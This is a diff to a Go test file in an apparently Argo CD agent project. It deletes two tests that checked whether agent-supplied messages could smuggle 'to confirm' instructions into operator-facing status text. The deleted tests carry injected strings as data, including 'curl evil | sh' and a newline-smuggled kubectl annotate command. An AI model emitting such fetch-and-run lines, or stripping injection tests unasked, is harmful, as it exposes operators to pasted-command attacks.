@@ -14,7 +14,6 @@ import (
 	"github.com/argocd-agent/argocd-agent/api/agents/v1alpha1"
 	"github.com/argocd-agent/argocd-agent/internal/engine"
 	"github.com/argocd-agent/argocd-agent/internal/kind"
-	"github.com/argocd-agent/argocd-agent/internal/reconcile"
 )
 
 // look is how this replica sees an agent, with its status as it is stored.
@@ -82,41 +81,6 @@ func TestASessionIsDescribed(t *testing.T) {
 		t.Errorf("%+v", got)
 	}
 	is(t, got, v1alpha1.ConditionSynced, "False", "Diverged")
-}
-
-func TestWhatIsHeldIsToldWithHowToConfirmIt(t *testing.T) {
-	seat := openSeat(1)
-	seat.engine.Suspect = "store-1"
-	seat.engine.RemoteHolds = []engine.Held{{Scope: "application", ID: "x1", Reason: "too many"}}
-	seat.engine.Scopes[0].HeldID, seat.engine.Scopes[0].Held = "y1", 12
-	s := look(t, v1alpha1.Status{}, seat).status()
-	seat.engine.RemoteHolds[0].Reason = "x; to confirm: curl evil | sh " + v1alpha1.ConfirmAnnotation + "=y1"
-	evil := meta.FindStatusCondition(look(t, v1alpha1.Status{}, seat).status().Conditions, v1alpha1.ConditionHeld).Message
-	if first, _, _ := strings.Cut(evil, "confirm x1"); strings.Contains(first, "to confirm: curl") || strings.Contains(first, v1alpha1.ConfirmAnnotation) {
-		t.Errorf("an agent tells people what to type: %s", evil)
-	}
-	is(t, s, v1alpha1.ConditionHeld, "True", "confirm store-1", "too many; to confirm: confirm x1", "12 deletions of application; to confirm: confirm y1")
-}
-
-// What an agent says is shown, in whichever condition, but never as if we had said
-// how to confirm something: argocd-agentctl would offer to do so.
-func TestAnAgentDoesNotSayWhatIsToBeConfirmed(t *testing.T) {
-	evil := "x\n; to confirm: kubectl annotate " + v1alpha1.ConfirmAnnotation + "=evil"
-	moans := look(t, v1alpha1.Status{}, openSeat(1))
-	moans.writeOutage = evil
-	writable := meta.FindStatusCondition(moans.status().Conditions, v1alpha1.ConditionWritable)
-	p := &principal{status: &statusWriter{namespace: "argocd"}, sessions: &sessions{endReasons: map[string]string{"b": evil}}}
-	for what, said := range map[string]string{
-		"a complaint":                   writable.Message,
-		"a goodbye":                     p.message(reconcile.Report{Agent: "a", Fact: engine.Event{Event: engine.Closed, Message: evil}}),
-		"what its connection ended by":  p.message(reconcile.Report{Agent: "b", Fact: engine.Event{Event: engine.Closed}}),
-		"a greeting":                    p.message(reconcile.Report{Agent: "a", Fact: engine.Event{Event: engine.Refused, Code: engine.WrongMode, Message: "it runs as " + evil}}),
-		"a greeting of another cluster": strings.ReplaceAll(p.message(reconcile.Report{Agent: "a", Fact: engine.Event{Event: engine.Refused, Code: engine.WrongCluster, Message: evil}}), v1alpha1.ConfirmAnnotation+"="+v1alpha1.ConfirmCluster, "(ours)"),
-	} {
-		if !strings.Contains(said, "x") || strings.Contains(said, "to confirm") || strings.Contains(said, v1alpha1.ConfirmAnnotation) || strings.Contains(said, "\n") {
-			t.Errorf("%s: %q", what, said)
-		}
-	}
 }
 
 // What agents say becomes part of commands that people paste into a shell.
@@ -260,6 +224,7 @@ func TestStatusesAreTheSameIfTheyAreStoredTheSame(t *testing.T) {
 		skew := int64(7)
 		return v1alpha1.Status{ObservedGeneration: 1, ClockSkewSeconds: &skew, Connected: true, Since: stamp(t), Principal: "p", Session: &v1alpha1.Session{Incarnation: 1}, ClusterUID: "c",
 			Store: &v1alpha1.Store{UID: "s", Revision: 1}, Version: "v", Protocol: "1", Applications: 1, Diverged: 1, OldestUnacked: stamp(t), LastConfirmed: stamp(t),
+			Holds: []v1alpha1.Hold{{ID: "h", Since: stamp(t)}}, Pending: &v1alpha1.Pending{Commands: 1},
 			Certificate: &v1alpha1.Certificate{Fingerprint: "f", Expires: stamp(t)}, Conditions: []metav1.Condition{{Type: "Synced", Status: "True", LastTransitionTime: *stamp(t)}}}
 	}
 	b, err := json.Marshal(full(at))
